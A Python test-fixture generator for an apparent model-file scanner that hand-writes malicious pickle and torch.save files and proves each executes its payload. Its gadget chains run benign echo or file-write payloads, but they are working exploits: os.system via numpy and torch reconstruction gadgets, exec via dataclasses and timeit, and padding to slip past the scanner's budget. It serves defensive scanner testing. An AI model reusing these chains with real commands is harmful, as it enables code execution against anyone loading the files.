# Builds the attack fixtures in testdata/attacks and proves each one runs its
# payload under the loader its README line names:
#
#     cd formats/pickle && /usr/bin/python3 testdata/make_attacks.py
#
# (Debian python3 3.11 with python3-torch 1.13 and python3-numpy 1.24.)
# Payloads are harmless: "echo modelvet-poc", or a small file named
# modelvet-poc* written in the current folder; the proof runs every load in
# a fresh temporary folder with a sys.audit hook and checks the effect.
# Every chain except the capability ones is made only of names on
# modelvet's safe list, which is the point: the strict profile must
# judge what they do, not what they are called.
import gzip, io, os, pickle, struct, subprocess, sys, tempfile, zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "attacks")


class P:
    """A hand-written protocol 2 pickle."""

    def __init__(self):
        self.b = bytearray(b"\x80\x02")

    def op(self, *bs):
        for x in bs:
            self.b += x if isinstance(x, (bytes, bytearray)) else bytes([x])
        return self

    def g(self, mod, name):
        return self.op(b"c" + mod.encode() + b"\n" + name.encode() + b"\n")

    def s(self, text):
        raw = text.encode()
        return self.op(b"X" + struct.pack("<I", len(raw)) + raw)

    def i(self, n):
        return self.op(b"J" + struct.pack("<i", n))

    def mark(self):
        return self.op(b"(")

    def tup(self):
        return self.op(b"t")

    def reduce(self):
        return self.op(b"R")

    def stop(self):
        return bytes(self.op(b".").b)

    def obj_dtype(self):
        return self.g("numpy", "dtype").s("O8").op(0x89, 0x88, 0x87).reduce()

    def scalar_of(self, emit):
        # numpy.core.multiarray.scalar(dtype('O'), x) returns x itself.
        self.g("numpy.core.multiarray", "scalar").mark().obj_dtype()
        emit(self)
        return self.tup().reduce()

    def ufunc_gadget(self):
        # numpy.core._ufunc_reconstruct, passed through scalar.
        return self.scalar_of(lambda p: p.g("numpy.core", "_ufunc_reconstruct"))

    def system(self):
        # os.system, fetched by the gadget at load time.
        return self.ufunc_gadget().mark().s("os").s("system").tup().reduce()


CMD = "echo modelvet-poc"


def passthrough_scalar():
    return P().system().mark().s(CMD).tup().reduce().stop()


def rebuild_from_type_apply():
    p = P().g("torch._tensor", "_rebuild_from_type_v2").mark().system()
    return p.g("torch", "Tensor").mark().s(CMD).tup().op(b"}").tup().reduce().stop()


def memo_and_list():
    # The gadget result goes through the memo; the arguments are a list.
    p = P().system().op(b"q\x07", b"0", b"]", b"0")
    p.g("torch._tensor", "_rebuild_from_type_v2").mark().op(b"h\x07").g("torch", "Tensor")
    return p.mark().s(CMD).op(b"l", b"}").tup().reduce().stop()


def padded():
    # 2100 lists of 256 ints in front: past modelvet's keep budget.
    p = P()
    for _ in range(2100):
        p.op(b"](" + b"K\x01" * 256 + b"e0")
    p.g("torch._tensor", "_rebuild_from_type_v2").mark().system()
    return p.g("torch", "Tensor").mark().s(CMD).tup().op(b"}").tup().reduce().stop()


def dataclasses_exec():
    # dataclasses._create_fn exec()s a def whose default is evaluated then.
    return (P().g("dataclasses", "_create_fn").mark().s("f")
            .mark().s("x=__import__('os').system(%r)" % CMD).op(b"l")
            .mark().s("return x").op(b"l").tup().reduce().stop())


def timeit_exec():
    # timeit.timeit(stmt, setup, timer, number) compiles and runs stmt.
    return (P().g("timeit", "timeit").mark().s("__import__('os').system(%r)" % CMD).s("pass")
            .g("time", "perf_counter").i(1).tup().reduce().stop())


def numpy_save():
    return (P().g("numpy", "save").mark().s("modelvet-poc.npy")
            .g("numpy", "zeros").mark().i(2).tup().reduce().tup().reduce().stop())


def gzip_write():
    return P().g("gzip", "GzipFile").mark().s("modelvet-poc.gz").s("wb").tup().reduce().stop()


def torch_from_file():
    # A shared file map; SETITEM writes through it.
    # torch.from_file(filename, shared, size).
    p = P().g("torch", "from_file").mark().s("modelvet-poc.bin").op(0x88).i(4).tup().reduce()
    return p.i(0).i(65).op(b"s").stop()


def torch_zip(pkl):
    # A torch.save archive whose data.pkl is replaced.
    import torch
    buf = io.BytesIO()
    torch.save({}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for n in src.namelist():
            z.writestr(n, pkl if n.endswith("/data.pkl") else src.read(n))
    return out.getvalue()


FIXTURES = [
    # name, bytes, loader, what proves it ran
    ("passthrough_scalar.pkl", passthrough_scalar, "pickle.load", "os.system"),
    ("rebuild_from_type_apply.pkl", rebuild_from_type_apply, "pickle.load", "os.system"),
    ("memo_and_list.pkl", memo_and_list, "pickle.load", "os.system"),
    ("padded_past_budget.pkl.gz", lambda: gzip.compress(padded(), mtime=0), "pickle.load", "os.system"),
    ("torch_zip_passthrough.pt", lambda: torch_zip(passthrough_scalar()), "torch.load(weights_only=False)", "os.system"),
    ("dataclasses_create_fn.pkl", dataclasses_exec, "pickle.load", "os.system"),
    ("timeit_exec.pkl", timeit_exec, "pickle.load", "os.system"),
    ("numpy_save.pkl", numpy_save, "pickle.load", "file:modelvet-poc.npy"),
    ("gzip_write.pkl", gzip_write, "pickle.load", "file:modelvet-poc.gz"),
    ("torch_from_file_setitem.pkl", torch_from_file, "pickle.load", "file:modelvet-poc.bin"),
]


def prove(path, loader, effect):
    """Loads path in a child process and reports whether the effect happened."""
    code = r"""
import sys, pickle, os
events = []
sys.addaudithook(lambda e, a: events.append(e) if e in ("os.system", "exec", "compile") else None)
path, loader = sys.argv[1], sys.argv[2]
try:
    if loader == "pickle.load":
        with open(path, "rb") as f:
            obj = pickle.load(f)
    else:
        import torch
        obj = torch.load(path, weights_only=False)
except Exception as e:
    print("load raised", type(e).__name__, e, file=sys.stderr)
print("EVENTS", " ".join(sorted(set(events))))
"""
    with tempfile.TemporaryDirectory() as d:
        if path.endswith(".gz"):
            raw = os.path.join(d, "raw.pkl")
            with open(path, "rb") as f, open(raw, "wb") as g:
                g.write(gzip.decompress(f.read()))
            path = raw
        r = subprocess.run([sys.executable, "-c", code, path, loader], cwd=d, capture_output=True, text=True)
        if effect.startswith("file:"):
            return os.path.exists(os.path.join(d, effect[5:])), r
        line = [l for l in r.stdout.splitlines() if l.startswith("EVENTS")]
        return bool(line) and effect in line[0].split() and "modelvet-poc" in r.stdout, r


def main():
    os.makedirs(OUT, exist_ok=True)
    ok = True
    for name, make, loader, effect in FIXTURES:
        path = os.path.join(OUT, name)
        with open(path, "wb") as f:
            f.write(make())
        ran, r = prove(path, loader, effect)
        print("%-32s %-32s %s" % (name, loader, "RUNS PAYLOAD" if ran else "did not run: " + r.stderr[-300:]))
        ok = ok and ran
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()
